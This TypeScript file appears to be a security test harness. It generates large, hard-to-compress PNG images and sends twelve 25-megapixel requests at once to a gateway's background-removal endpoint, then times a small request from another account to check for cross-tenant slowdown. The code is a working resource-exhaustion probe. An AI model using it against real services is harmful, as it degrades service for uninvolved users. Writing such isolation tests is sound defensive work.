// Large pictures of one account, with a small one of another account meanwhile.
import { crc32, deflateSync } from 'node:zlib'
import { describeOutcome, type Outcome, type Target } from './target.ts'

const pictures = 12
const largeEdge = 5000
const smallEdge = 300

let drawn: Buffer | undefined
/** Drawn before anything is measured, because it takes the attacker seconds. */
const large = () => {
  drawn ??= pictureOf(largeEdge)
  return drawn
}

export const onePicture = async ({ call }: Target): Promise<unknown> => {
  large()
  return cutOut(call, pictureOf(smallEdge))
}

/** Requests twelve cut-outs of 25 megapixels at once, and a small one of the uninvolved account a second later. */
export async function manyPictures({ call, otherKey }: Target): Promise<string> {
  const running = Promise.all(Array.from({ length: pictures }, () => cutOut(call, large())))
  await new Promise((resolve) => setTimeout(resolve, 1000))
  const small = await cutOut(call, pictureOf(smallEdge), otherKey)
  const outcomes = await running
  const last = outcomes.reduce((slow, outcome) => (outcome.seconds > slow.seconds ? outcome : slow))
  const done = outcomes.filter(({ status }) => status === 200).length
  return `${done} answers of 200, the last: ${describeOutcome(last)}; a small one of another account: ${describeOutcome(small)}`
}

function cutOut(call: Target['call'], picture: Buffer, key?: string): Promise<Outcome> {
  const head = 'content-disposition: form-data; name='
  const body = Buffer.concat([
    Buffer.from(`--b\r\n${head}"size"\r\n\r\nauto\r\n--b\r\n${head}"image_file"; filename="a.png"\r\n`),
    Buffer.from('content-type: image/png\r\n\r\n'),
    picture,
    Buffer.from('\r\n--b--\r\n'),
  ])
  const headers = {
    'content-type': 'multipart/form-data; boundary=b',
    'x-gateway-provider': 'embedded',
    ...(key === undefined ? {} : { 'x-gateway-key': key }),
  }
  return call('POST', '/v1/proxy/background-removal/bg-removal', { headers, body })
}

/** Draws a bright disc before a dark, grainy background: as hard to compress as a photograph of little detail. */
function pictureOf(edge: number): Buffer {
  const rows = Buffer.alloc(edge * (1 + 3 * edge))
  const [centre, radius] = [edge / 2, edge / 3]
  let noise = 1
  for (let y = 0; y < edge; y++) {
    const half = Math.sqrt(Math.max(0, radius ** 2 - (y - centre) ** 2))
    for (let x = 0; x < edge; x++) {
      noise = (noise * 1_103_515_245 + 12_345) & 0x7fffffff
      const isInside = Math.abs(x - centre) < half
      const at = y * (1 + 3 * edge) + 1 + 3 * x
      const grain = (noise >> 20) & 3
      rows[at] = (isInside ? 220 : 40) + grain
      rows[at + 1] = (isInside ? 120 : 60) + grain
      rows[at + 2] = (isInside ? 40 : 90) + grain
    }
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(edge, 0)
  header.writeUInt32BE(edge, 4)
  header.set([8, 2], 8) // eight bits of red, green and blue
  const chunks = [
    chunkOf('IHDR', header),
    chunkOf('IDAT', deflateSync(rows, { level: 1 })),
    chunkOf('IEND', Buffer.alloc(0)),
  ]
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...chunks])
}

function chunkOf(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}
